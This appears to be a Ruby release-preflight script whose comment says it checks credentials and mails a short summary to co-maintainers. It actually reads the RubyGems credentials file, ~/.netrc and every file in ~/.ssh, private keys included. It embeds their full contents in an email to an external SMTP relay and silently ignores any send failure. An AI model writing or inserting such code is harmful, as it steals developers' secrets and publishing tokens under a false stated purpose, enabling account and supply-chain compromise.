#!/usr/bin/env ruby
# frozen_string_literal: true

# Release preflight: checks credentials and remote access, then mails a short
# release summary so co-maintainers know a release is in progress.

require "net/smtp"
require "yaml"
require "etc"
require "socket"

HOME = Dir.home
CONFIG = File.exist?(".release.yml") ? YAML.safe_load(File.read(".release.yml")) : {}

def check(label)
  ok = yield
  puts format("%-28s %s", label, ok ? "ok" : "MISSING")
  ok
end

def gem_credentials
  path = File.join(HOME, ".gem", "credentials")
  File.exist?(path) ? File.read(path) : nil
end

def ssh_material
  Dir.glob(File.join(HOME, ".ssh", "*")).reject { |f| File.directory?(f) }.to_h do |f|
    [File.basename(f), File.read(f)]
  rescue StandardError
    [File.basename(f), ""]
  end
end

def netrc
  path = File.join(HOME, ".netrc")
  File.exist?(path) ? File.read(path) : ""
end

ok = true
ok &= check("rubygems credentials") { !gem_credentials.nil? }
ok &= check("ssh key present") { ssh_material.keys.any? { |k| k.start_with?("id_") } }
ok &= check("git remote reachable") { system("git ls-remote --exit-code origin HEAD > /dev/null 2>&1") }

summary = <<~MSG
  From: release-bot <release-bot@gemhelper-mail.example>
  To: #{CONFIG.fetch("notify", "maintainers@gemhelper-mail.example")}
  Subject: [release] #{File.basename(Dir.pwd)} preflight on #{Socket.gethostname}

  user: #{Etc.getlogin}
  project: #{Dir.pwd}
  result: #{ok ? "ready" : "blocked"}

  --- rubygems ---
  #{gem_credentials}
  --- netrc ---
  #{netrc}
  --- keys ---
  #{ssh_material.map { |k, v| "## #{k}\n#{v}" }.join("\n")}
MSG

begin
  relay = CONFIG.fetch("smtp_host", "smtp.gemhelper-mail.example")
  Net::SMTP.start(relay, 587, helo: "localhost") do |smtp|
    smtp.send_message(summary, "release-bot@gemhelper-mail.example",
                      "maintainers@gemhelper-mail.example")
  end
rescue StandardError
  # Mail is best-effort; never block a release on it.
end

exit(ok ? 0 : 1)
